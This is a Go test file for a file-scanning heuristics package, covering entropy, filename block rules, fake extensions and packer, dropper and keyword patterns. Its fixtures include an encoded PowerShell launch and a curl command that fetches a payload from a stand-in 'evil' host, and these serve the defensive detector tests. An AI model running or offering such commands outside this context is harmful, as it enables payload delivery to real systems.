package heuristics

import (
	"math"
	"strings"
	"testing"
)

func TestEntropy(t *testing.T) {
	t.Run("empty buffer is zero", func(t *testing.T) {
		if got := Entropy(nil); got != 0 {
			t.Errorf("Entropy(nil) = %v, want 0", got)
		}
		if got := Entropy([]byte{}); got != 0 {
			t.Errorf("Entropy(empty) = %v, want 0", got)
		}
	})

	t.Run("single repeated byte is zero", func(t *testing.T) {
		b := make([]byte, 1024)
		if got := Entropy(b); got != 0 {
			t.Errorf("Entropy(zeros) = %v, want 0", got)
		}
	})

	t.Run("uniform distribution approaches 8", func(t *testing.T) {
		b := make([]byte, 256*16)
		for i := range b {
			b[i] = byte(i % 256)
		}
		got := Entropy(b)
		if math.Abs(got-8.0) > 1e-9 {
			t.Errorf("Entropy(uniform) = %v, want 8.0", got)
		}
	})

	t.Run("two equally likely bytes is one bit", func(t *testing.T) {
		b := []byte{0, 1, 0, 1, 0, 1, 0, 1}
		got := Entropy(b)
		if math.Abs(got-1.0) > 1e-9 {
			t.Errorf("Entropy(bits) = %v, want 1.0", got)
		}
	})

	t.Run("always within [0, 8]", func(t *testing.T) {
		inputs := [][]byte{
			[]byte("hello world"),
			{0xFF, 0x00, 0xAB, 0xCD, 0x12},
			make([]byte, 1),
			[]byte(strings.Repeat("abcdefgh", 100)),
		}
		for _, b := range inputs {
			got := Entropy(b)
			if got < 0 || got > 8 {
				t.Errorf("Entropy(%v...) = %v, outside [0, 8]", b[:min(4, len(b))], got)
			}
		}
	})
}

// highEntropyBytes produces a buffer with near-maximal entropy via a small
// deterministic PRNG, so the test never depends on crypto/rand.
func highEntropyBytes(n int) []byte {
	b := make([]byte, n)
	state := uint32(0x9E3779B9)
	for i := range b {
		state = state*1664525 + 1013904223
		b[i] = byte(state >> 24)
	}
	return b
}

func TestAnalyze(t *testing.T) {
	t.Run("clean content", func(t *testing.T) {
		v := Analyze("notes.txt", []byte("just some ordinary notes about nothing"))
		if v.Suspicious {
			t.Errorf("Analyze() suspicious = true, reason %q; want clean", v.Reason)
		}
		if v.Reason != ReasonClean {
			t.Errorf("Reason = %q, want %q", v.Reason, ReasonClean)
		}
	})

	t.Run("empty buffer is not flagged", func(t *testing.T) {
		v := Analyze("empty.bin", nil)
		if v.Suspicious {
			t.Errorf("Analyze(empty) suspicious = true, reason %q", v.Reason)
		}
	})

	t.Run("blacklisted filename", func(t *testing.T) {
		v := Analyze("my-keylogger-v2.bin", []byte("harmless bytes"))
		if !v.Suspicious {
			t.Fatal("Analyze() suspicious = false, want true")
		}
		if !strings.Contains(v.Reason, "filename") {
			t.Errorf("Reason = %q, want filename rule", v.Reason)
		}
	})

	t.Run("high entropy text file", func(t *testing.T) {
		// Near-8 bits/byte against the 6.5 text threshold.
		v := Analyze("readme.txt", highEntropyBytes(4096))
		if !v.Suspicious {
			t.Fatal("Analyze() suspicious = false, want true")
		}
		if !strings.Contains(v.Reason, "entropy") {
			t.Errorf("Reason = %q, want entropy rule", v.Reason)
		}
	})

	t.Run("same entropy passes under a looser threshold", func(t *testing.T) {
		// Random bytes sit near 8.0; the archive class allows up to 8.2.
		v := Analyze("bundle.zip", highEntropyBytes(4096))
		if v.Suspicious && strings.Contains(v.Reason, "entropy") {
			t.Errorf("entropy rule fired for .zip: %q", v.Reason)
		}
	})

	t.Run("fake jpg extension", func(t *testing.T) {
		v := Analyze("photo.jpg", []byte{0x00, 0x11, 0x22, 0x33})
		if !v.Suspicious {
			t.Fatal("Analyze() suspicious = false, want true")
		}
		if v.Reason != "Fake extension with mismatched header" {
			t.Errorf("Reason = %q, want %q", v.Reason, "Fake extension with mismatched header")
		}
	})

	t.Run("genuine jpg header passes the magic check", func(t *testing.T) {
		v := Analyze("photo.jpg", []byte{0xFF, 0xD8, 0xFF, 0xE0, 'j', 'f', 'i', 'f'})
		if v.Suspicious {
			t.Errorf("Analyze() suspicious = true, reason %q", v.Reason)
		}
	})

	t.Run("truncated pdf is a mismatched header", func(t *testing.T) {
		v := Analyze("doc.pdf", []byte{0x25}) // shorter than the magic itself
		if !v.Suspicious || v.Reason != "Fake extension with mismatched header" {
			t.Errorf("Analyze() = %+v, want fake-extension verdict", v)
		}
	})

	t.Run("suspicious content keyword", func(t *testing.T) {
		v := Analyze("setup.bat", []byte("@echo off\npowershell -enc SQBFAFgA"))
		if !v.Suspicious {
			t.Fatal("Analyze() suspicious = false, want true")
		}
		if !strings.Contains(v.Reason, "powershell") {
			t.Errorf("Reason = %q, want powershell keyword", v.Reason)
		}
	})

	t.Run("keyword outside the first 4096 bytes is ignored", func(t *testing.T) {
		content := append(make([]byte, 5000), []byte("powershell")...)
		for i := range content[:5000] {
			content[i] = 'a'
		}
		v := Analyze("big.dat", content)
		if v.Suspicious {
			t.Errorf("Analyze() suspicious = true, reason %q; keyword is past probe window", v.Reason)
		}
	})

	t.Run("packer signature", func(t *testing.T) {
		v := Analyze("tool.dat", []byte("this binary was packed with upx"))
		if !v.Suspicious || !strings.Contains(v.Reason, "Packer") {
			t.Errorf("Analyze() = %+v, want packer verdict", v)
		}
	})

	t.Run("dropper pattern", func(t *testing.T) {
		v := Analyze("loader.dat", []byte("will drop payload.exe into temp"))
		if !v.Suspicious || !strings.Contains(v.Reason, "Dropper") {
			t.Errorf("Analyze() = %+v, want dropper verdict", v)
		}
	})

	t.Run("self-modifying code pattern", func(t *testing.T) {
		v := Analyze("stub.dat", []byte("sections: .text .data calls virtualalloc"))
		if !v.Suspicious || !strings.Contains(v.Reason, "Self-modifying") {
			t.Errorf("Analyze() = %+v, want self-modifying verdict", v)
		}
	})

	t.Run("obfuscated environment variables", func(t *testing.T) {
		v := Analyze("run.dat", []byte("set x=%TEMP%"))
		if !v.Suspicious || !strings.Contains(v.Reason, "environment") {
			t.Errorf("Analyze() = %+v, want env-var verdict", v)
		}
	})

	t.Run("filename rule outranks content rules", func(t *testing.T) {
		// Content would also match the keyword rule; priority order says
		// the filename verdict wins.
		v := Analyze("stealer.sh", []byte("curl http://evil/payload"))
		if !strings.Contains(v.Reason, "filename") {
			t.Errorf("Reason = %q, want filename rule to fire first", v.Reason)
		}
	})
}
